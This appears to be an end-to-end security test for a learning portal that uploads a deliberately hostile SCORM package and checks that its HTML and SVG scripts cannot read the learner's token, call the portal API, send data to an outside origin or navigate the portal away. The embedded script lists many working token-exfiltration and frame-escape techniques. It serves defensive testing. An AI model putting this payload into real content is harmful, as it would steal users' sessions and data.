import { createServer, type IncomingMessage, type Server } from 'node:http'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import type { Browser } from 'playwright-core'
import type { User } from '@portal/contracts'
import { launchBrowser } from './browser.ts'
import {
  adminCourses,
  apiAs,
  assignCourse,
  contentFrame,
  DEMO,
  eventually,
  lessonButton,
  openCourse,
  playerFrame,
  report,
  scormProgress,
  signIn,
  tokenOf,
  uploadCourse,
  zipOf,
  type Session,
} from './courses-support.ts'

/*
 * Issue 9, High 1: course content must not run as the portal. A hostile SCORM package, built here,
 * tries from its HTML page and from an SVG everything that worked when content was served from the
 * portal's origin: read the learner's token and the portal's document, call the portal's API with
 * and without the token (it is given the real one, as if it had leaked), send data to another
 * origin (a local server stands for "any https origin" and records every request) and navigate
 * the portal away. Nothing may succeed; the package may still use the SCORM API its parent offers.
 */

const baseURL = inject('baseURL')
const contentURL = inject('contentURL')
const run = Date.now().toString(36).slice(-5)
const title = `Hostile package ${run}`

let browser: Browser
let recorder: Server
let outside: string
const hits: { method: string; url: string; authorization: boolean }[] = []

beforeAll(async () => {
  browser = await launchBrowser()
  recorder = createServer((req: IncomingMessage, res) => {
    hits.push({ method: req.method ?? '', url: req.url ?? '', authorization: Boolean(req.headers.authorization) })
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('recorded')
  })
  await new Promise<void>((r) => recorder.listen(0, '127.0.0.1', r))
  outside = `http://127.0.0.1:${(recorder.address() as { port: number }).port}`
})
afterAll(async () => {
  await browser?.close()
  await new Promise((r) => recorder?.close(r))
})

/** What both hostile documents try; each attempt records 'ok:<what it got>' or 'blocked:<error>'. */
const attacks = (t: { portal: string; outside: string; token: string; userId: string }) => `
  var PORTAL = ${JSON.stringify(t.portal)}, OUTSIDE = ${JSON.stringify(t.outside)}, TOKEN = ${JSON.stringify(t.token)}, USER = ${JSON.stringify(t.userId)};
  var R = {};
  var auth = { Authorization: 'Bearer ' + TOKEN, 'Content-Type': 'application/json' };
  var profile = JSON.stringify({ branch: 'Anchorage', department: 'Testing' });
  function settle(name, run) {
    return new Promise(function (resolve) {
      var done = function (v) { if (!(name in R)) R[name] = v; show(); resolve() };
      try {
        var out = run(function (v) { done('ok:' + String(v).slice(0, 300)) }, function (e) { done('blocked:' + String(e && e.name || e)) });
        if (out && typeof out.then === 'function') out.then(function (v) { done('ok:' + String(v).slice(0, 300)) }, function (e) { done('blocked:' + String(e && e.name || e)) });
        else if (out !== undefined) done('ok:' + String(out).slice(0, 300));
      } catch (e) { done('blocked:' + String(e && e.name || e)) }
      setTimeout(function () { done('blocked:timeout') }, 4000);
    });
  }
  var load = function (make) { return function (ok, no) { var el = make(); el.onload = function () { ok('loaded') }; el.onerror = function () { no('error') }; (document.body || document.documentElement).appendChild(el) } };
  var answer = function (r) { return r.status + ' ' + (r.headers.get('content-type') || '') };
  var steps = [
    ['own storage token', function () { return localStorage.getItem('token') }],
    ['top storage token', function () { return top.localStorage.getItem('token') }],
    ['top document', function () { return top.document.documentElement.outerHTML.length }],
    ['top location', function () { return top.location.href }],
    ['grandparent document', function () { return parent.parent.document.title }],
    ['parent is the portal', function () { return !!parent.document.querySelector('#course-viewer-title') || parent.location.origin !== location.origin }],
    ['portal me without token', function () { return fetch(PORTAL + '/api/users/me').then(answer) }],
    ['portal me with token', function () { return fetch(PORTAL + '/api/users/me', { headers: auth }).then(answer) }],
    ['portal profile with token', function () { return fetch(PORTAL + '/api/users/' + USER + '/profile', { method: 'PUT', headers: auth, body: profile }).then(answer) }],
    ['portal xhr with token', function (ok, no) { var x = new XMLHttpRequest(); x.open('PUT', PORTAL + '/api/users/' + USER + '/profile'); x.setRequestHeader('Authorization', 'Bearer ' + TOKEN); x.onload = function () { ok(x.status) }; x.onerror = function () { no('error') }; x.send(profile) }],
    ['own origin me with token', function () { return fetch('/api/users/me', { headers: auth }).then(answer) }],
    ['own origin profile with token', function () { return fetch('/api/users/' + USER + '/profile', { method: 'PUT', headers: auth, body: profile }).then(answer) }],
    ['outside fetch', function () { return fetch(OUTSIDE + '/fetch?t=' + TOKEN).then(answer) }],
    ['outside beacon', function () { return navigator.sendBeacon(OUTSIDE + '/beacon', TOKEN) ? 'queued' : 'refused' }],
    ['outside websocket', function (ok, no) { var ws = new WebSocket(OUTSIDE.replace('http', 'ws') + '/ws'); ws.onopen = function () { ok('open') }; ws.onerror = function () { no('error') } }],
    ['outside event source', function (ok, no) { var es = new EventSource(OUTSIDE + '/sse'); es.onopen = function () { ok('open') }; es.onerror = function () { es.close(); no('error') } }],
    ['outside image', load(function () { var i = document.createElementNS('http://www.w3.org/1999/xhtml', 'img'); i.src = OUTSIDE + '/img?t=' + TOKEN; return i })],
    ['outside script', load(function () { var s = document.createElementNS('http://www.w3.org/1999/xhtml', 'script'); s.src = OUTSIDE + '/script.js?t=' + TOKEN; return s })],
    ['outside style', load(function () { var l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.rel = 'stylesheet'; l.href = OUTSIDE + '/style.css?t=' + TOKEN; return l })],
    ['outside frame', function (ok) { var f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); f.src = OUTSIDE + '/frame?t=' + TOKEN; (document.body || document.documentElement).appendChild(f); setTimeout(function () { ok('appended') }, 1500) }],
    ['outside popup', function () { var w = window.open(OUTSIDE + '/popup?t=' + TOKEN); return w ? 'opened' : 'refused' }],
    ['outside form post', function (ok) { var f = document.createElementNS('http://www.w3.org/1999/xhtml', 'form'); f.method = 'post'; f.action = OUTSIDE + '/form?t=' + TOKEN; f.target = 'sink'; var s = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); s.name = 'sink'; (document.body || document.documentElement).appendChild(s); (document.body || document.documentElement).appendChild(f); f.submit(); setTimeout(function () { ok('submitted') }, 1500) }],
    ['navigate top away', function () { top.location.href = OUTSIDE + '/top?t=' + TOKEN; return 'navigated' }],
    ['navigate top in the portal', function () { top.location.href = PORTAL + '/admin-dashboard'; return 'navigated' }],
  ];
  function show() { var el = document.getElementById('results'); if (el) el.textContent = JSON.stringify(R) }
  (async function () {
    for (var i = 0; i < steps.length; i++) await settle(steps[i][0], steps[i][1]);
    document.documentElement.setAttribute('data-done', 'yes');
  })();
`

/** A SCORM 1.2 package of two SCOs: an HTML page and an SVG, both hostile. */
async function hostilePackage(t: { portal: string; outside: string; token: string; userId: string }): Promise<Buffer> {
  const manifest = `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="hostile" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>Hostile</title>
    <item identifier="page" identifierref="r-page"><title>Hostile page</title></item>
    <item identifier="drawing" identifierref="r-svg"><title>Hostile drawing</title></item>
  </organization></organizations>
  <resources>
    <resource identifier="r-page" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource>
    <resource identifier="r-svg" type="webcontent" adlcp:scormtype="sco" href="evil.svg"><file href="evil.svg"/></resource>
  </resources>
</manifest>`
  const page = `<!doctype html><html><head><meta charset="utf-8"><title>Hostile page</title></head><body>
<h1>Hostile page</h1><pre id="results">{}</pre>
<script>
  // It is still SCORM content: the API its parent window offers works.
  var api = window.parent && window.parent.API;
  var scorm = api ? [api.LMSInitialize(''), api.LMSSetValue('cmi.core.lesson_location', 'hostile-${run}'), api.LMSCommit('')].join(',') : 'no API';
  document.documentElement.setAttribute('data-scorm', scorm);
  ${attacks(t)}
</script></body></html>`
  const svg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="300"><text id="heading" x="10" y="30">Hostile drawing</text><text id="results" x="10" y="60">{}</text>
<script><![CDATA[
  ${attacks(t)}
]]></script></svg>`
  return zipOf({ 'imsmanifest.xml': manifest, 'index.html': page, 'evil.svg': svg })
}

/** The attempts a hostile document recorded, once it tried them all. */
async function attemptsIn(frame: ReturnType<typeof contentFrame>): Promise<Record<string, string>> {
  await frame.locator('[data-done="yes"]').waitFor({ timeout: 60_000 })
  return JSON.parse((await frame.locator('#results').textContent()) ?? '{}') as Record<string, string>
}

/** Every attempt that must have failed, and how. */
function expectNothingReached(r: Record<string, string>, token: string, where: string) {
  expect(Object.keys(r).length, `${where}: every attempt ran`).toBe(24)
  expect(r['own storage token'], `${where}: the content origin's storage holds no token`).toBe('ok:null')
  for (const name of ['top storage token', 'top document', 'top location', 'grandparent document']) expect(r[name], `${where}: ${name}`).toMatch(/^blocked:SecurityError/)
  expect(r['parent is the portal'], `${where}: its parent is the content player, not the portal`).toBe('ok:false')
  for (const name of [
    'portal me without token',
    'portal me with token',
    'portal profile with token',
    'portal xhr with token',
    'outside fetch',
    'outside websocket',
    'outside event source',
    'outside image',
    'outside script',
    'outside style',
  ])
    expect(r[name], `${where}: ${name}`).toMatch(/^blocked:/)
  // The content origin has no API: the token is worth nothing there.
  expect(r['own origin me with token'], `${where}: own origin /api/users/me`).toMatch(/^ok:404 application\/json/)
  expect(r['own origin profile with token'], `${where}: own origin profile`).toMatch(/^ok:404 application\/json/)
  // Content may open no window (one could go anywhere, CSP does not follow it).
  expect(r['outside popup'], `${where}: popup`).toBe('ok:refused')
  for (const name of ['navigate top away', 'navigate top in the portal']) expect(r[name], `${where}: ${name}`).toMatch(/^blocked:SecurityError/)
  expect(JSON.stringify(r), `${where}: the token never came back from anywhere`).not.toContain(token.slice(-20))
}

describe('hostile course content', () => {
  let admin: Session
  let learner: Session

  it('reaches neither the learner’s token, the portal’s document and API, nor any other origin, from its HTML or an SVG; its SCORM calls still work', async () => {
    learner = await signIn(browser, baseURL, DEMO.portland)
    const page = learner.page
    const token = await tokenOf(page)
    const me = (await apiAs<User>(page, baseURL, '/users/me')).body
    const zip = await hostilePackage({ portal: baseURL, outside, token, userId: me.id })

    admin = await signIn(browser, baseURL, DEMO.admin)
    await admin.page.getByRole('tab', { name: 'Courses' }).click()
    await uploadCourse(admin.page, title, [{ name: 'hostile.zip', mimeType: 'application/zip', buffer: zip }])
    await assignCourse(admin.page, title, DEMO.portland)
    const course = await eventually(
      () => adminCourses(admin.page, baseURL),
      (list) => list.find((c) => c.title === title)?.modules[0]?.processing_status === 'ready',
      'the hostile package ingested',
      60_000,
    )
    const moduleId = course.find((c) => c.title === title)!.modules[0]!.id

    await page.reload() // My Courses as it is now that the course is assigned
    await openCourse(page, title)
    const sco = contentFrame(page)
    await sco.getByRole('heading', { name: 'Hostile page' }).waitFor()
    // The SCO plays on the content origin, inside the player, never on the portal's.
    expect(new URL((await playerFrame(page)).url()).origin).toBe(contentURL)
    const fromPage = await attemptsIn(sco)
    expectNothingReached(fromPage, token, 'HTML page')
    expect(await sco.locator('html').getAttribute('data-scorm')).toBe('true,true,true')
    await eventually(
      () => scormProgress(page, baseURL, moduleId),
      (p) => p.location === `hostile-${run}`,
      'the hostile SCO’s own commit stored',
    )

    // The SVG, opened as a SCO of its own: its script runs on the content origin too.
    await lessonButton(page, 'Hostile drawing').click()
    const drawing = contentFrame(page)
    await drawing.locator('#heading').waitFor()
    const fromSvg = await attemptsIn(drawing)
    expectNothingReached(fromSvg, token, 'SVG')

    // Nothing arrived anywhere, the portal stayed where it was, the learner is still signed in (the
    // reload above took a new token from the refresh cookie, which no script sees) with the profile untouched.
    expect(hits, 'requests the outside origin received').toEqual([])
    expect(new URL(page.url()).pathname).toBe('/user-dashboard')
    await page.getByRole('button', { name: 'Close Course' }).waitFor()
    expect(await page.evaluate(() => localStorage.getItem('token'))).toBeNull()
    const after = (await apiAs<User>(page, baseURL, '/users/me')).body
    expect({ branch: after.branch, department: after.department }).toEqual({ branch: me.branch, department: me.department })
    expect(learner.errors, report(learner)).toEqual([])
  }, 180_000)

  it('is served by the content origin only: the portal answers 404 for it, and the content origin has no portal API', async () => {
    const page = learner.page
    const launch = await eventually(
      async () =>
        (
          await apiAs<{ contentBase: string; playerUrl: string }>(
            page,
            baseURL,
            `/scorm/${(await adminCourses(admin.page, baseURL)).find((c) => c.title === title)!.modules[0]!.id}/launch`,
          )
        ).body,
      (l) => Boolean(l.contentBase),
      'a launch',
    )
    expect(new URL(launch.playerUrl).origin).toBe(contentURL)
    const onPortal = await fetch(`${baseURL}${launch.contentBase}index.html`)
    expect(onPortal.status).toBe(404)
    const onContent = await fetch(`${contentURL}${launch.contentBase}evil.svg`)
    expect(onContent.status).toBe(200)
    expect(onContent.headers.get('content-type')).toMatch(/^image\/svg\+xml/)
    expect(onContent.headers.get('content-security-policy')).toContain(`frame-ancestors 'self' ${baseURL}`)
    // no scheme-wide source (https: or *), only the origins the allow-list names
    expect(onContent.headers.get('content-security-policy')).not.toMatch(/\s(https?:|\*)(\s|;|$)/)
    const api = await fetch(`${contentURL}/api/users/me`, { headers: { authorization: `Bearer ${await tokenOf(page)}` } })
    expect(api.status).toBe(404)
    await page.context().close()
    await admin.page.context().close()
  })
})
